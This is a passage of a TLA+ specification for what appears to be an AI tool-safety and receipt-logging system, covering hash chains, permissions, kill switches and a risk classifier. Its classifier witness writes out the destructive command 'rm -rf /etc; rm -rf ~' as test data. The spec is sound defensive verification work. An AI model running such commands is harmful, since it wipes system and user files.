    /\ ret.method = "verify_signature"
          => /\ ret.outcome = "returned"
             /\ (ret.signer = Nil \/ ret.verifier.public_key = <<"short">>) => ret.result = FALSE
    /\ ret.method = "verify_chain" => ret.outcome = "returned"

\* C22 as stated: a receipt that references a parent hash not present earlier in
\* the log fails chain verification (verify_chain reports it chain-invalid and
\* check_chain_integrity does not pass), and a log whose receipts have strictly
\* sequential, self-consistent parent links, as produced by Episode.emit, passes.
C22_ChainIntegrity ==
    (ret.method = "verify_chain" /\ ret.outcome = "returned")
      => LET log == ret.receipts
             Referenced(r) ==
                 (IF "parent_hashes" \in DOMAIN r THEN Range(r["parent_hashes"]) ELSE {})
                 \cup (IF "parent_hash" \in DOMAIN r /\ r["parent_hash"] # <<"None">>
                       THEN {r["parent_hash"]} ELSE {})
             Earlier(i) == {log[j]["receipt_hash"] : j \in 1..(i - 1)}
             Sequential ==
                 \A i \in 1..Len(log) :
                     /\ "parent_hash" \in DOMAIN log[i]
                     /\ log[i]["parent_hash"]
                            = (IF i = 1 THEN <<"None">> ELSE log[i - 1]["receipt_hash"])
                     /\ log[i]["receipt_hash"] = ComputeReceiptHash(log[i])
         IN  /\ \A i \in 1..Len(log) :
                    ~(Referenced(log[i]) \subseteq Earlier(i))
                        => ret.results[i].chain_valid = "False" /\ ~ret.passed
             /\ Sequential => ret.passed

C24_PrefixStable ==
    ret.method = "verify_chain"
      => /\ \A k \in 0..Len(ret.receipts) :
                ~VerifyChainRaises(SubSeq(ret.receipts, 1, k), ret.public_keys)
                    => /\ ret.outcome = "returned"
                       /\ \A i \in 1..k :
                              ret.results[i]
                                  = VerifyChain(SubSeq(ret.receipts, 1, k), ret.public_keys)[i]
         /\ ret.outcome = "returned"
                => \A i \in 1..Len(ret.receipts) :
                       "parent_hashes" \notin DOMAIN ret.receipts[i]
                           => ret.results[i].is_valid
                                  = VerifyChain(<<ret.receipts[i]>>, ret.public_keys)[1].is_valid

\* C25 as stated: when two emit operations on the same episode run concurrently,
\* under every interleaving the resulting receipts form one linear chain: once
\* both have returned, no two receipts of the episode carry the same parent_hash
\* and the episode's parent pointer is the hash of the receipt emitted last.
C25_EmitSerialized ==
    (running = <<>> /\ store # <<>>)
      => /\ \A i, j \in 1..Len(store) :
                i # j => store[i]["parent_hash"] # store[j]["parent_hash"]
         /\ parent_hash = store[Len(store)]["receipt_hash"]


\* C26: an evaluate that returns while grant(p, tools, max_risk=m) is in progress
\* gives the result it would give in the state before the grant or in the state
\* after it (never a result of the partially applied grant)
C26_GrantAtomic ==
    \A g \in DOMAIN running :
        ("before" \in DOMAIN running[g] /\ ret.method = "evaluate")
          => LET call == running[g]
                 after == (call.sub :>
                             [(IF call.sub \in DOMAIN call.before
                               THEN call.before[call.sub] ELSE NewPermission)
                                EXCEPT !.allowed_tools = @ \cup call.tools,
                                       !.max_risk = call.max_risk])
                          @@ call.before
                 EvaluateIn(pmap) ==
                     IF IsKillSwitched(ret.tool_name)
                     THEN Decision("deny", <<"DENY_KILL_SWITCH">>)
                     ELSE IF FindTool(ret.tool_name) = Nil
                     THEN Decision("deny", <<"DENY_TOOL_NOT_FOUND">>)
                     ELSE IF ret.sub \notin DOMAIN pmap
                     THEN Decision("deny", <<"DENY_NO_MATCHING_RULE">>)
                     ELSE IF ret.tool_name \in pmap[ret.sub].denied_tools
                     THEN Decision("deny", <<"DENY_NO_PERMISSION">>)
                     ELSE IF ret.tool_name \notin pmap[ret.sub].allowed_tools
                     THEN Decision("deny", <<"DENY_NO_MATCHING_RULE">>)
                     ELSE IF RiskExceeds(FindTool(ret.tool_name).risk_category,
                                         pmap[ret.sub].max_risk)
                     THEN Decision("require_approval", <<"REQUIRE_APPROVAL">>)
                     ELSE Decision("allow", <<"ALLOW_POLICY_MATCH">>)
             IN  ret.decision \in {EvaluateIn(call.before), EvaluateIn(after)}


\* C27: when a registered listener raises during ReceiptEmitter.emit or during an
\* Incident Controller mutation, the set mutation, the appended IncidentEvent, the
\* receipt in the store and the receipt's line in the configured output file are
\* all still completed
C27_ListenerCannotPrevent ==
    /\ (/\ ret.method = "emit"
        /\ \E i \in 1..Len(listeners) : listeners[i] = "raises"
        /\ JsonSerializable(ret.arguments))
         => /\ receipts # <<>>
            /\ receipts[Len(receipts)].args_hash
                 = (IF DOMAIN ret.arguments # {} THEN HashArgs(ret.arguments) ELSE Nil)
            /\ output_path # None => output_lines = Len(receipts)
    /\ (/\ "event" \in DOMAIN ret
        /\ \E i \in 1..Len(inc_listeners) : inc_listeners[i] = "raises")
         => /\ events # <<>>
            /\ events[Len(events)] = ret.event
            /\ ret.method = "activate_kill_switch"
                 => \E names \in {<<>>, <<"fs_read">>, <<"fs_read", "fs_delete">>} :
                        JoinComma(names) = ret.target /\ Range(names) \subseteq inc_kill_switch_tools
            /\ ret.method = "deactivate_kill_switch"
                 => \E names \in {<<>>, <<"fs_read">>, <<"fs_read", "fs_delete">>} :
                        JoinComma(names) = ret.target /\ Range(names) \cap inc_kill_switch_tools = {}
            /\ ret.method = "quarantine_session"
                 => \E x \in quarantined_sessions : Chars(x) = ret.target
            /\ ret.method = "release_session"
                 => \A x \in quarantined_sessions : Chars(x) # ret.target
            /\ ret.method = "revoke_principal"
                 => \E x \in revoked_principals : Chars(x) = ret.target
            /\ ret.method = "reinstate_principal"
                 => \A x \in revoked_principals : Chars(x) # ret.target

\* C28: each Incident Controller mutation appends exactly one IncidentEvent naming
\* the action, target and actor (also when the set does not change) and calls every
\* registered listener once, in registration order; the event log only grows
C28_EveryMutationNotifies ==
    [][("event" \in DOMAIN ret')
         => /\ events' = Append(events, ret'.event)
            /\ ret'.event.target = ret'.target /\ ret'.event.actor = ret'.actor
            /\ ret'.event.action =
                 (CASE ret'.method = "activate_kill_switch" -> "kill_switch_activated"
                    [] ret'.method = "deactivate_kill_switch" -> "kill_switch_deactivated"
                    [] ret'.method = "quarantine_session" -> "session_quarantined"
                    [] ret'.method = "release_session" -> "session_released"
                    [] ret'.method = "revoke_principal" -> "principal_revoked"
                    [] ret'.method = "reinstate_principal" -> "principal_reinstated")
            /\ ret'.called = [i \in 1..Len(inc_listeners) |-> i]]_vars


\* C29: a conformance-validator run over a receipt source that yields no receipts
\* is a failed run: it ends without crashing, its report's overall_pass is false and
\* its exit status is not zero
C29_NoReceiptsFails ==
    (ret.method = "csp_validate" /\ ret.path # "missing" /\ ret.receipts = <<>>)
      => /\ ret.outcome = "exited"
         /\ ~ret.report.overall_pass
         /\ ret.exit_code # 0


\* C30: in standard mode an action classified HIGH or CRITICAL gets an execution
\* receipt only if a Plan receipt and a Verdict with verdict ALLOW were presented,
\* the Verdict's plan_hash is that Plan's receipt_hash, that Plan is a plan receipt
\* of the episode, and a step of the plan for the same tool covers the action's
\* scope at a risk not below the action's; otherwise a refusal receipt is emitted
C30_PlanVerdictBinding ==
    (ret.method = "attempt_action" /\ ret.mode = "standard" /\ ret.risk \in {"HIGH", "CRITICAL"})
      => LET plan == ret.plan_receipt
             verdict == ret.verdict_receipt
             bound == /\ plan # Nil /\ verdict # Nil
                      /\ verdict["verdict"] = "ALLOW"
                      /\ verdict["plan_hash"] = plan["receipt_hash"]
                      /\ \E i \in 1..Len(store) :
                             /\ store[i] = plan
                             /\ store[i]["receipt_type"] = "csp.tool_safety.plan.v1"
                      /\ ScopeAllows(plan, ret.action)
         IN  IF bound
             THEN ret.receipt["receipt_type"] \in {"csp.tool_safety.execution.v1",
                                                   "csp.tool_safety.refusal.v1"}
             ELSE /\ ret.status = "REFUSED"
                  /\ ret.receipt["receipt_type"] = "csp.tool_safety.refusal.v1"


\* C31: every Decision that handle_tools_list or handle_tools_call returns carries a
\* non-empty list of reason codes of the interface's closed set, and the list agrees
\* with the result: allow carries exactly ALLOW_POLICY_MATCH, deny carries only
\* DENY_* codes, require_approval carries exactly REQUIRE_APPROVAL
C31_ReasonCodesAgree ==
    (ret.method \in {"tools/call", "tools/list"} /\ ret.outcome = "returned")
      => LET decision == ret.decision
             codes == {decision.reason_codes[i] : i \in 1..Len(decision.reason_codes)}
         IN  /\ decision.result \in DecisionResult
             /\ decision.reason_codes # <<>>
             /\ codes \subseteq ReasonCode
             /\ decision.result = "allow" => decision.reason_codes = <<"ALLOW_POLICY_MATCH">>
             /\ decision.result = "deny"
                  => codes \cap {"ALLOW_POLICY_MATCH", "REQUIRE_APPROVAL"} = {}
             /\ decision.result = "require_approval"
                  => decision.reason_codes = <<"REQUIRE_APPROVAL">>

C31_Witness ==
    /\ ret.method = "tools/call"
    /\ ret.outcome = "returned"
    /\ ret.decision.result = "deny"
    /\ ret.decision.reason_codes = <<"DENY_PATH_TRAVERSAL">>
    /\ ret.stages = <<"authenticate", "revocation", "authorize", "preflight">>

\* C32: classify returns CRITICAL if any CRITICAL pattern matches the command,
\* otherwise HIGH if any HIGH pattern matches, otherwise MEDIUM for the tool kinds
\* shell, db and http and LOW for any other; a command matching a pattern of both
\* lists is CRITICAL, and the pattern reported is the first matching one of the
\* winning list (None when no pattern matches)
C32_ClassifierPrecedence ==
    ret.method = "classify"
      => LET MatchesOf(patterns) ==
                 {i \in 1..Len(patterns) : Search(patterns[i], ret.command)}
             critical == MatchesOf(CRITICAL_PATTERNS)
             high == MatchesOf(HIGH_PATTERNS)
             Least(S) == CHOOSE i \in S : \A j \in S : i <= j
         IN  /\ critical # {}
                  => ret.result = [risk |-> "CRITICAL",
                                   matched |-> CRITICAL_PATTERNS[Least(critical)]]
             /\ (critical = {} /\ high # {})
                  => ret.result = [risk |-> "HIGH", matched |-> HIGH_PATTERNS[Least(high)]]
             /\ (critical = {} /\ high = {} /\ ret.tool \in {"shell", "db", "http"})
                  => ret.result = [risk |-> "MEDIUM", matched |-> None]
             /\ (critical = {} /\ high = {} /\ ret.tool \notin {"shell", "db", "http"})
                  => ret.result = [risk |-> "LOW", matched |-> None]

\* a command that matches two CRITICAL patterns and a HIGH one was classified
\* CRITICAL under the earlier of the two
C32_Witness ==
    /\ ret.method = "classify"
    /\ ret.command = "rm -rf /etc; rm -rf ~"
    /\ Search("CRITICAL_PATTERNS[1]", ret.command)
    /\ Search("CRITICAL_PATTERNS[2]", ret.command)
    /\ Search("HIGH_PATTERNS[0]", ret.command)
    /\ ret.result = [risk |-> "CRITICAL", matched |-> "CRITICAL_PATTERNS[1]"]

C34_SequentialEpisodeVerifies ==
    /\ \A i \in 1..Len(store) :
           /\ store[i]["parent_hash"]
                = (IF i = 1 THEN <<"None">> ELSE store[i - 1]["receipt_hash"])
           /\ store[i]["parent_hash"] = <<"None">> => i = 1
    /\ (ret.method = "verify_episode" /\ ret.receipts # <<>>) => ret.exit_code = 0

\* C35 as stated: create_receipt never returns a receipt whose proof_tier is court
\* without a signature, so every court-tier receipt it creates passes the
\* validator's signature-coverage check (SIG-01)
C35_CourtTierSigned ==
    (ret.method = "create_receipt" /\ ret.receipt["proof_tier"] = "court")
      => /\ "signature" \in DOMAIN ret.receipt
         /\ \A c \in Range(ValidateReceipts(<<ret.receipt>>).checks) :
                c.check_id = "SIG-01" => c.passed

\* the receipts of log reachable from the receipts of S by following parent_hashes
\* at most n times
RECURSIVE Ancestry(_, _, _)
Ancestry(log, S, n) ==
    IF n = 0 THEN S
    ELSE Ancestry(log,
                  S \cup {j \in 1..Len(log) :
                             \E i \in S : log[j]["receipt_hash"] \in Range(log[i]["parent_hashes"])},
                  n - 1)

\* C36 as stated: the plan-required check (PLAN-01) passes a log iff every
\* HIGH/CRITICAL action that reached a success outcome is causally reachable from a
\* plan-typed receipt by following parent_hashes through any number of intermediate
\* receipts, or carries the plan_id of a plan receipt in the log
C36_PlanReachable ==
    (ret.method = "csp_validate" /\ ret.path # "missing" /\ ret.receipts # <<>>)
      => LET log == ret.receipts
             IsPlan(i) == log[i]["receipt_type"] = "csp.tool_safety.plan.v1"
             Executed(i) == /\ "command" \in DOMAIN log[i]["payload"]
                            /\ log[i]["payload"]["command"] = "rm -r build"
                            /\ log[i]["payload"]["outcome"] \in {"success", "executed"}
             FromPlan(i) == \E j \in Ancestry(log, {i}, Len(log)) : j # i /\ IsPlan(j)
             NamesPlan(i) == /\ "plan_id" \in DOMAIN log[i]["payload"]
                             /\ \E j \in 1..Len(log) :
                                    IsPlan(j) /\ log[j]["receipt_id"] = log[i]["payload"]["plan_id"]
             passed == \A c \in Range(ret.report.checks) : c.check_id = "PLAN-01" => c.passed
         IN  passed <=> \A i \in 1..Len(log) : Executed(i) => (FromPlan(i) \/ NamesPlan(i))

\* C37: an explicit denial is permanent. No operation shrinks a principal's
\* allowed_tools or denied_tools, every evaluate for a principal and a tool in that
\* principal's denied_tools answers deny (never allow or require_approval), and
\* handle_tools_list shows that principal no entry for a denied tool, whatever
\* grants, denials, registrations and kill-switch operations came before
C37_DenialPermanent ==
    [][/\ \A sub \in DOMAIN permissions :
              /\ sub \in DOMAIN permissions'
              /\ permissions[sub].denied_tools \subseteq permissions'[sub].denied_tools
              /\ permissions[sub].allowed_tools \subseteq permissions'[sub].allowed_tools
       /\ (/\ ret'.method = "evaluate"
           /\ ret'.sub \in DOMAIN permissions'
           /\ ret'.tool_name \in permissions'[ret'.sub].denied_tools)
            => ret'.decision.result = "deny"
       /\ (ret'.method = "tools/list" /\ ret'.outcome = "returned"
           /\ Authenticate(ret'.token).authenticated)
            => LET sub == Authenticate(ret'.token).principal.sub
               IN  \A i \in 1..Len(ret'.visible_tools) :
                       sub \in DOMAIN permissions'
                         => ret'.visible_tools[i].tool_name
                                \notin permissions'[sub].denied_tools]_vars

\* alice, denied fs_read and also granted it, with fs_read registered and not
\* kill-switched, was answered deny for it
C37_Witness ==
    /\ ret.method = "evaluate" /\ ret.sub = "alice" /\ ret.tool_name = "fs_read"
    /\ "alice" \in DOMAIN permissions
    /\ "fs_read" \in permissions["alice"].denied_tools
    /\ "fs_read" \in permissions["alice"].allowed_tools
    /\ "fs_read" \notin kill_switch_tools
    /\ FindTool("fs_read") # Nil
    /\ ret.decision = Decision("deny", <<"DENY_NO_PERMISSION">>)

\* C38 as stated: for every VerificationResult verify_chain produces, is_valid is
\* true iff its error list is empty: a receipt with a recorded error (hash
\* mismatch, missing parent, invalid signature, unknown signing key) is never
\* reported valid
C38_ValidIffNoErrors ==
    (ret.method = "verify_chain" /\ ret.outcome = "returned")
      => \A i \in 1..Len(ret.results) :
             ret.results[i].is_valid <=> ret.results[i].errors = <<>>

\* C39 as stated: a capability invocation is bound to the server it names:
\* handle_tools_call with a non-empty server_id returns allow only if the registry
\* holds an entry under exactly that (server_id, tool_name) key
C39_ServerBound ==
    (/\ ret.method = "tools/call" /\ ret.outcome = "returned"
     /\ ret.server_id \notin {None, ""}
     /\ ret.decision.result = "allow")
      => \E i \in 1..Len(tools) :
             tools[i].server_id = ret.server_id /\ tools[i].tool_name = ret.tool_name

\* C40 as stated: every attempt_action call emits an action receipt with outcome
\* attempted that is immediately followed in the episode chain by exactly one
\* refusal receipt or one execution receipt with the same action_id; in basic mode
\* an action classified CRITICAL always ends in a refusal and never in an
\* execution, whatever plan or verdict is supplied
C40_AttemptThenOutcome ==
    ret.method = "attempt_action"
      => LET attempts == {i \in 1..Len(store) :
                             store[i]["receipt_type"] = "csp.tool_safety.action.v1"}
             Outcome(i) == store[i]["receipt_type"] \in {"csp.tool_safety.refusal.v1",
                                                         "csp.tool_safety.execution.v1"}
         IN  /\ attempts # {}
             /\ \A i \in attempts :
                    /\ store[i]["outcome"] = "attempted"
                    /\ i < Len(store)
                    /\ Outcome(i + 1)
                    /\ store[i + 1]["action_id"] = store[i]["action_id"]
                    /\ store[i + 1]["parent_hash"] = store[i]["receipt_hash"]
                    /\ Cardinality({j \in 1..Len(store) :
                                       Outcome(j) /\ store[j]["action_id"] = store[i]["action_id"]})
                         = 1
             /\ (ret.mode = "basic" /\ ret.risk = "CRITICAL")
                  => /\ ret.status = "REFUSED"
                     /\ store[Len(store)]["receipt_type"] = "csp.tool_safety.refusal.v1"

====
